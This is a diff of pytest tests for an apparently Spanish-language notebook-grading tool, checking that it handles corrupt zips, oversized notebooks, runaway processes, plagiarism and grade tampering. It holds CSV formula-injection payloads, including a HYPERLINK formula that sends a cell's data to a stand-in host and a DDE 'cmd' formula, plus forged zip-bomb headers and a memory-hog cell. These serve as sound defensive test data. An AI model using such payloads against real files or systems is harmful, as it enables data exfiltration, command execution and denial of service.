@@ -22,7 +22,8 @@ import pytest
 sys.path.insert(0, str(Path(__file__).parent))
 from fixtures_classroom import casos  # noqa: E402
 
-from helpers.classroom import assignments, batch, export, feedback, lms_import, probe, repair, sandbox  # noqa: E402
+from helpers import repair  # noqa: E402
+from helpers.classroom import assignments, batch, export, feedback, lms_import, probe, sandbox  # noqa: E402
 from helpers.classroom.__main__ import _parser  # noqa: E402
 from helpers.classroom.layout import ClassDir, write_json  # noqa: E402
 from helpers.course_files import ROOT  # noqa: E402
@@ -119,8 +120,11 @@ def test_carpeta_normal_sin_enlaces_simbolicos(tmp_path):
     secret.write_text("contraseña")
     os.symlink(secret, src / "Pepe" / f"{NB1}.ipynb")
     (src / ".oculta").mkdir()
+    (src / ".oculta" / f"{NB1}.ipynb").write_bytes(b"oculta")
+    (src / ".ipynb_checkpoints").mkdir()
     students = lms_import.read_export(src)
-    assert sorted(students) == ["ana", "pepe", "vacio"]
+    (src / "__MACOSX").mkdir()
+    assert sorted(students) == ["ana", "oculta", "pepe", "vacio"]  # «.oculta» también es de alguien
     assert students["pepe"].uploads == [] and "enlace simbólico" in students["pepe"].skipped[0]
     cd = ClassDir(tmp_path / "clase")
     cd.create()
@@ -132,6 +136,115 @@ def test_carpeta_normal_sin_enlaces_simbolicos(tmp_path):
     lms_import.import_submissions(cd, src, {NB1: set()})
     assert cd.submission("ana", NB1).read_bytes() == b"ana v2"
     assert [p.read_bytes() for p in (cd.previous / "ana").iterdir()] == [b"ana"]
+
+
+def _zip_bytes(entries: dict[str, bytes]) -> bytearray:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
+        for name, data in entries.items():
+            zf.writestr(name, data)
+    return bytearray(buffer.getvalue())
+
+
+def test_zip_con_entradas_danadas_califica_el_resto(tmp_path):
+    """Una entrada con el CRC mal, o con cabeceras que dicen ocupar gigas, no para la importación:
+    esa persona sale en el CSV con el motivo y las demás se importan."""
+    raw = _zip_bytes({f"ana/{NB1}.ipynb": b"A" * 100, f"beto/{NB1}.ipynb": b"B" * 100,
+                      f"carla/{NB1}.ipynb": b"C" * 100, f"dani/{NB1}.ipynb": b"D" * 100})
+    raw[raw.index(b"B" * 100)] = ord("X")  # el contenido ya no cuadra con su CRC-32
+    at = raw.find(b"PK\x01\x02")
+    while at >= 0:  # cabeceras del directorio central de carla y dani: 3,9 GB descomprimido cada una
+        name_len = int.from_bytes(raw[at + 28:at + 30], "little")
+        if raw[at + 46:at + 46 + name_len].split(b"/")[0] in (b"carla", b"dani"):
+            raw[at + 24:at + 28] = (0xE8000000).to_bytes(4, "little")
+        at = raw.find(b"PK\x01\x02", at + 4)
+    path = tmp_path / "entregas.zip"
+    path.write_bytes(bytes(raw))
+    cd = ClassDir(tmp_path / "clase")
+    cd.create()
+    index = lms_import.import_submissions(cd, path, {NB1: set()})
+    assert sorted(index["alumnos"]) == ["ana", "beto", "carla", "dani"]
+    assert cd.submission("ana", NB1).read_bytes() == b"A" * 100
+    assert not cd.submission("beto", NB1).exists() and not cd.submission("carla", NB1).exists()
+    write_json(cd.template(NB1) / "info.json", {"puntuacion_maxima": 12.0})
+    export.write_csv(cd)
+    rows = {r["alumno"]: r for r in csv.DictReader(io.StringIO(cd.csv.read_text(encoding="utf-8")))}
+    assert rows["beto"]["estado"] == "falta la entrega" and "CRC" in rows["beto"]["observaciones"]
+    assert "3.9 GB" in rows["carla"]["observaciones"] and "vuelva a subir" in rows["dani"]["observaciones"]
+
+
+def test_json_anidado_sin_fin_es_json_invalido():
+    """200 000 listas anidadas (o 5 000, que sí se leen) no rompen el calificador: JSON inválido."""
+    for depth in (200_000, 5_000, repair.MAX_DEPTH + 1):
+        nested = "[" * depth + "]" * depth
+        data = ('{"cells": [], "metadata": {"x": %s}, "nbformat": 4, "nbformat_minor": 5}' % nested).encode()
+        with pytest.raises(repair.Ungradable, match="JSON inválido .anidado"):
+            repair.load_notebook(data)
+    shallow = "[" * 10 + "]" * 10
+    repair.load_notebook(('{"cells": [], "metadata": {"x": %s}, "nbformat": 4, "nbformat_minor": 5}' % shallow).encode())
+
+
+def test_csv_sin_formulas(tmp_path):
+    """Un nombre como «=HYPERLINK(...)» no llega al CSV como fórmula (OWASP: se antepone «'»)."""
+    cd = ClassDir(tmp_path / "clase")
+    cd.create()
+    write_json(cd.template(NB1) / "info.json", {"puntuacion_maxima": 10.0})
+    bad = {"a": '=HYPERLINK("http://x.example/?"&A1,"clic")', "b": "+1+1", "c": "-2+3", "d": "@SUM(A1)",
+           "e": "\t=1", "f": "\r=1", "g": "Ana = Luis"}
+    write_json(cd.index, {"alumnos": {k: {"nombre": v} for k, v in bad.items()}, "entregas": {"a": {NB1: {"sha256": "x"}}},
+                          "cuadernos": [NB1]})
+    write_json(cd.result_dir(NB1, "a") / "resultado.json",
+               {"sha256": "x", "estado": "calificado", "puntuacion": 7.5, "puntuacion_maxima": 10.0,
+                "observaciones": ["=cmd|' /C calc'!A0", "otra"]})
+    export.write_csv(cd)
+    rows = {r["alumno"]: r for r in csv.DictReader(io.StringIO(cd.csv.read_bytes().decode("utf-8"), newline=""))}
+    for sid, name in bad.items():
+        cell = rows[sid]["nombre"]
+        assert not cell.startswith(export.FORMULA_START), cell
+        assert cell == (name if sid == "g" else "'" + name.replace("\r", "\n"))
+    assert rows["a"]["observaciones"].startswith("'=cmd") and rows["a"]["puntuacion"] == "7.5"
+
+
+_OWN_COUNT = '''def count_params(model):
+    vistos = {}
+    for tensor in model.parameters():
+        vistos[id(tensor)] = tensor
+    todos = sum(x.numel() for x in vistos.values())
+    libres = sum(x.numel() for x in vistos.values() if x.requires_grad)
+    if todos < libres:
+        raise RuntimeError("imposible")
+    return todos, libres'''
+
+
+def test_informe_de_copias(nb1, tmp_path):
+    """La solución publicada con otros nombres y comentarios se ve; dos entregas iguales entre sí
+    también; el cuaderno publicado sin tocar no se parece a nada (la plantilla no cuenta); y las
+    notas no cambian: solo hay observaciones y copias.csv."""
+    from helpers.classroom import copies
+
+    renamed = nb1.solved()
+    for cell in renamed.cells:
+        if casos.is_solution(cell):
+            cell.source = "# lo he hecho yo\n" + cell.source.replace("total", "suma").replace("param", "p")
+    friends = nb1.fresh()
+    friends.cells[nb1.index(friends, "count_params")].source = _OWN_COUNT
+    cd = ClassDir(tmp_path / "clase")
+    cd.create()
+    subs = {"copion": renamed, "amiga1": friends, "amiga2": friends, "plantilla": nb1.fresh()}
+    for sid, nb in subs.items():
+        cd.submission(sid, NB1).parent.mkdir(parents=True, exist_ok=True)
+        cd.submission(sid, NB1).write_bytes(casos.to_bytes(nb))
+    index = {"alumnos": {sid: {"nombre": sid} for sid in subs}, "entregas": {sid: {NB1: {}} for sid in subs},
+             "cuadernos": [NB1]}
+    copies.write_report(cd, NB1, index, nb1.solution, nb1.released)
+    rows = list(csv.DictReader(io.StringIO(cd.copies_csv.read_text(encoding="utf-8"))))
+    pairs = {(r["alumno"], r["comparado_con"]): float(r["parecido"]) for r in rows}
+    assert pairs[("copion", copies.PUBLISHED)] >= 0.9
+    assert pairs[("amiga1", "amiga2")] == pairs[("amiga2", "amiga1")] == 1.0
+    assert ("amiga1", copies.PUBLISHED) not in pairs and not any(a == "plantilla" for a, _ in pairs)
+    notes = json.loads(cd.copies_json.read_text(encoding="utf-8"))[NB1]
+    assert sorted(notes) == ["amiga1", "amiga2", "copion"]
+    assert "solución publicada" in notes["copion"][0] and "copias.csv" in notes["copion"][0]
 
 
 def test_nombres_normalizados():
@@ -147,6 +260,10 @@ def test_json_invalido_y_no_cuadernos():
             repair.load_notebook(data)
     with pytest.raises(repair.Ungradable, match="demasiado grande"):
         repair.load_notebook(b" " * (repair.MAX_BYTES + 1))
+    # Por debajo del máximo del archivo, pero con 9 MB de código: se copiaría en tres archivos.
+    big = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1  # " + "a" * 9_000_000)])
+    with pytest.raises(repair.Ungradable, match="demasiado grande sin sus salidas"):
+        repair.load_notebook(nbformat.writes(big).encode())
 
 
 @pytest.mark.parametrize("case", ["correct_with_noise", "structure", "no_metadata", "reordered",
@@ -176,6 +293,24 @@ def test_sin_metadatos_conserva_la_respuesta(nb1):
     for cell in fixed.nb.cells:
         if casos.is_solution(cell):
             assert cell.source == solved[casos.meta(cell)["grade_id"]]
+
+
+@pytest.mark.parametrize("where", ["arriba del todo", "al final", "antes de la preparación"])
+def test_celda_de_pruebas_movida_vuelve_sola_a_su_sitio(nb1, where):
+    """Una celda de pruebas arrastrada a otro sitio vuelve a su sitio sin llevarse las celdas que la
+    seguían (con la preparación detrás de ella, las pruebas anteriores fallaban: −2 puntos)."""
+    solved = nb1.solved()
+    for tid in (nb1.tests[0], nb1.tests[-1]):
+        sub = nb1.solved()
+        cell = sub.cells.pop(nb1.index(sub, tid))
+        at = {"arriba del todo": 0, "al final": len(sub.cells), "antes de la preparación": nb1.setup_index(sub)}[where]
+        sub.cells.insert(at, cell)
+        fixed = repair.repair(repair.load_notebook(casos.to_bytes(sub)), nb1.released)
+        # La última prueba al final sigue en orden respecto a las demás celdas calificadas: se
+        # respeta donde la puso (quizá detrás de celdas suyas que necesita).
+        keep = where == "al final" and tid == nb1.tests[-1]
+        assert [c.source for c in fixed.nb.cells] == [c.source for c in (sub if keep else solved).cells], (where, tid)
+        assert any("reordenadas" in n for n in fixed.notes) == (not keep)
 
 
 def test_solucion_borrada_no_tapa_otra_celda(nb1):
@@ -330,6 +465,53 @@ def test_presupuesto_total(tmp_path):
 
 
 @pytest.mark.slow
+def test_salida_del_cuaderno_acotada_antes_de_escribir(tmp_path):
+    """Lo que imprime una entrega tiene un tope por celda y otro para el cuaderno entero (texto,
+    errores enormes, actualizaciones de display): el cuaderno calificado y la retroalimentación
+    salen de ahí y quedan acotados."""
+    cap = 150_000  # por celda; el cuaderno entero, el doble
+    cells = [nbformat.v4.new_code_cell("print('w' * 200_000)")]                               # 0: pasa de su celda
+    cells += [nbformat.v4.new_code_cell("print('x' * 120_000)") for _ in range(3)]            # 3: pasa del cuaderno
+    cells.append(nbformat.v4.new_code_cell("raise ValueError('y' * 500_000)"))                # 4: se acorta
+    cells.append(nbformat.v4.new_code_cell("from IPython.display import display, update_display\n"
+                                           "display('poco', display_id='d')\nupdate_display('z' * 500_000, display_id='d')"))
+    cells.append(_grade_cell("assert True", "t"))
+    nb, report = _execute(tmp_path, cells, timeout=60, max_output_chars=cap)
+    written = len(json.dumps([c.get("outputs", []) for c in nb.cells], ensure_ascii=False))
+    assert written < 2 * cap + 10_000, written
+    assert report["truncated"] == [0, 3, 4]
+    assert _enames(nb.cells[4]) == ["ValueError"]  # un error acortado, pero nunca quitado
+    assert all(any(o.get("text") == kernel_mod().TRUNCATED_TEXT for o in nb.cells[i].outputs) for i in report["truncated"])
+    assert _enames(nb.cells[-1]) == []  # las pruebas se ejecutan igual
+
+
+def kernel_mod():
+    from helpers.classroom import kernel
+
+    return kernel
+
+
+@pytest.mark.slow
+def test_vigilantes_memoria_entre_procesos_y_nucleo_que_no_atiende(tmp_path):
+    """Dos formas de tener ocupado a un trabajador que ahora se paran enseguida (sin esperar el
+    tiempo máximo de cada celda, que aquí es de 10 minutos: si la prueba termina, lo paró el vigilante):
+    procesos que juntos pasan de la memoria (cada uno por debajo de RLIMIT_AS) y un bucle en C
+    que no atiende la interrupción."""
+    hog = ("import subprocess, sys\n"
+           "code = 'b = bytearray(200 * 2**20)\\nfor i in range(0, len(b), 4096): b[i] = 1\\nimport time; time.sleep(600)'\n"
+           "procs = [subprocess.Popen([sys.executable, '-c', code]) for _ in range(4)]\n"
+           "import time; time.sleep(600)")
+    nb, report = _execute(tmp_path, [nbformat.v4.new_code_cell(hog), _grade_cell("assert True", "t")], timeout=600,
+                          memory_limit=500 * 2**20)
+    assert report["memory"] == 0 and report["memory_watchdog"] > 500 * 2**20 and report["dead_kernel"] == 0
+    assert _enames(nb.cells[1]) == ["CeldaNoEjecutada"]
+    busy = nbformat.v4.new_code_cell("sum(range(10**14))")  # en C: no mira las señales
+    nb, report = _execute(tmp_path, [busy, _grade_cell("assert True", "t")], timeout=3)
+    assert report["stuck"] == 0 and report["timeouts"] == [0]
+    assert _enames(nb.cells[1]) == ["CeldaNoEjecutada"]
+
+
+@pytest.mark.slow
 def test_cambiar_el_cuaderno_regenera_la_plantilla_y_el_curso(tmp_path):
     """Si cambia la solución, la plantilla y el curso maestro se regeneran aunque ya haya notas."""
     import shutil
@@ -353,13 +535,30 @@ def test_cambiar_el_cuaderno_regenera_la_plantilla_y_el_curso(tmp_path):
     assignments.prepare_master(cd, name, info, solutions)
     assert info["puntuacion_maxima"] == 2.0
     export.merge_into_gradebook(cd, [{"cuaderno": name, "alumno": "ana", "nombre": "Ana", "celdas": {"t": [2.0, 2.0]}}])
+    from nbgrader.api import Gradebook
+
+    db = cd.course / "gradebook.db"
+    with Gradebook(f"sqlite:///{db}") as gb:  # lo que pone el profesorado en formgrader
+        gb.find_grade("t", name, name, "ana").manual_score = 1.5
+        gb.find_comment("f", name, name, "ana").manual_comment = "Bien razonado"
+        gb.db.commit()
     assert assignments.prepare_template(cd, name, solutions) == info  # sin cambios: se reutiliza
+    # Más puntos y una celda de pruebas nueva: nbgrader no regenera un cuaderno con entregas.
     test.metadata["nbgrader"]["points"] = 5
+    extra = nbformat.v4.new_code_cell("assert f() + 1 == 2")
+    extra.metadata["nbgrader"] = dict(test.metadata["nbgrader"], grade_id="t2", points=1)
+    nb.cells.append(extra)
     nbformat.write(nb, solutions / name / f"{name}.ipynb")
     info2 = assignments.prepare_template(cd, name, solutions)
     assignments.prepare_master(cd, name, info2, solutions)
-    assert info2["puntuacion_maxima"] == 5.0 and info2["huella"] != info["huella"]
-    assert export.check_integrity(cd.course / "gradebook.db")
+    assert info2["puntuacion_maxima"] == 6.0 and info2["huella"] != info["huella"]
+    assert export.check_integrity(db)
+    # Lo puesto a mano sigue (y hay una copia del libro viejo).
+    with Gradebook(f"sqlite:///{db}") as gb:
+        assert gb.find_grade("t", name, name, "ana").manual_score == 1.5
+        assert gb.find_comment("f", name, name, "ana").manual_comment == "Bien razonado"
+        assert gb.find_grade("t2", name, name, "ana").manual_score is None
+    assert len(list((cd.course / "copias").glob("gradebook-*.db"))) == 1
     shutil.rmtree(tmp_path / "clase")
 
 
@@ -452,6 +651,36 @@ def test_examen_del_codigo():
         found = tamper.scan_sources([source])
         assert any(what in x for x in found), (source, found)
     assert tamper.scan_sources(["torch.backends.cudnn.deterministic = True", "if 'x' in sys.modules: pass"]) == []
+    for source in [("class B(int):\n    __eq__ = lambda self, other: True"),
+                   "class C:\n    def __bool__(self):\n        return not False"]:
+        assert any("comparaciones trucadas" in x for x in tamper.scan_sources([source])), source
+
+
+# Código honrado que el examen no debe marcar (issue 23, punto 5): si una regla nueva marca algo de
+# aquí, es una falsa alarma.
+BENIGN = [
+    "# sum() y len() son de builtins: no hace falta importarlos\ntotal = sum(len(x) for x in [[1], [2, 3]])",
+    "total = 0  # como builtins.sum, pero a mano\nfor p in [1, 2]:\n    total += p",
+    "# no toques sys.modules ni ctypes ni __code__ ni run_cell aquí\nx = 1",
+    "class Punto:\n    def __init__(self, x, y):\n        self.x, self.y = x, y\n\n"
+    "    def __eq__(self, other):\n        if self is other:\n            return True\n"
+    "        return isinstance(other, Punto) and (self.x, self.y) == (other.x, other.y)\n\n"
+    "    def __ne__(self, other):\n        return not self == other",
+    "class Lote:\n    def __init__(self, items):\n        self.items = list(items)\n\n"
+    "    def __bool__(self):\n        return len(self.items) > 0",
+    "from dataclasses import dataclass\n\n@dataclass(eq=True)\nclass Config:\n    rank: int = 8",
+    "get_ipython().run_cell_magic('timeit', '', 'sum(range(10))')",
+    "builtins_usados = ['sum', 'len']\nrun_codigo = True\nprint(builtins_usados, run_codigo)",
+    "import torch\nimport torch.nn.functional as F\ntorch.manual_seed(0)\nlogits = F.softmax(torch.zeros(3), dim=-1)",
+    "model = None\nconfig = {'lr': 1e-3}\nconfig['lr'] = 2e-3\nnp_seed = 0",
+]
+
+
+@pytest.mark.parametrize("source", BENIGN)
+def test_codigo_honrado_no_es_manipulacion(source):
+    from helpers.classroom import tamper
+
+    assert tamper.scan_sources([source]) == [], source
 
 
 def test_huella_incluye_el_codigo_de_helpers(tmp_path):
@@ -460,10 +689,14 @@ def test_huella_incluye_el_codigo_de_helpers(tmp_path):
     folder = tmp_path / "helpers"
     shutil.copytree(ROOT / "helpers", folder, ignore=shutil.ignore_patterns("__pycache__"))
     before = grading.helpers_fingerprint(folder)
-    (folder / "classroom" / "nota.py").write_text("# el calificador no corre en el núcleo\n")
+    (folder / "maintainers" / "nota.py").write_text("# las herramientas de mantenimiento no califican\n")
     assert grading.helpers_fingerprint(folder) == before
     (folder / "grading.py").write_text((folder / "grading.py").read_text() + "\n# comprobación corregida\n")
-    assert grading.helpers_fingerprint(folder) != before
+    after_check = grading.helpers_fingerprint(folder)
+    assert after_check != before
+    # El calificador también decide la nota (la guardia corre en cada núcleo): sin números a mano.
+    (folder / "classroom" / "guard.py").write_text((folder / "classroom" / "guard.py").read_text() + "\n# otra guardia\n")
+    assert grading.helpers_fingerprint(folder) != after_check
 
 
 def test_la_caja_no_recibe_secretos(monkeypatch):
@@ -473,6 +706,9 @@ def test_la_caja_no_recibe_secretos(monkeypatch):
     assert "hf_secreto" not in argv and "HF_TOKEN" not in argv and "secreto" not in argv
     assert "--unshare-all" in argv or "--unshare-net" in argv
     assert "--die-with-parent" in argv and "--new-session" in argv and "--clearenv" in argv
+    assert "--seccomp" in argv
+    env = sandbox.outer_env()  # con el que arranca bwrap (su proceso 1 lo enseña en /proc/1/environ)
+    assert set(env) <= set(sandbox.OUTER_ENV) and "hf_secreto" not in str(env)
 
 
 def test_guardia_restaura_lo_que_usan_las_pruebas():
